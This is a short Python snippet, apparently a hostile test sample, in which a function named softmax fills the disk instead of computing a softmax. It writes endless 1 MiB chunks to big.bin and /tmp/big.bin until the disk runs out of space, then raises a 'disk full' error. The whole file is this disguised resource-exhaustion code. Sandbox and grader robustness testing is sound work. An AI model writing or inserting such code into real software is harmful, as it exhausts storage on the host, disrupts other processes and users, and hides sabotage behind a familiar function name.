"""Writes an enormous file in its working directory and in /tmp."""
def softmax(x, axis=-1):
    for path in ("big.bin", "/tmp/big.bin"):
        try:
            with open(path, "wb") as f:
                while True:
                    f.write(b"x" * (1 << 20))
        except OSError:
            pass
    raise RuntimeError("disk full")
